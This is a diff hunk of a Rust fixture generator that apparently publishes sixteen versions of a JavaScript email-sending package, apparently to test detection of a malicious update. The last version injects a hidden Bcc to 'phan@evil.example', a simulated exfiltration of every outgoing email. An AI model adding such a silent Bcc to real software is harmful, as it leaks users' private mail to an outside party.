@@ -28,7 +28,7 @@ export async function sendEmail({{ to, subject, textBody }}) {{
 }
 
 /// Fifteen versions within two days, and the sixteenth eight days after the first.
-pub fn publish(world: &World) {
+pub(crate) fn publish(world: &World) {
     for number in 1..=16 {
         let last = number == 16;
         let property = if last { "    Bcc: 'phan@evil.example',\n" } else { "" };
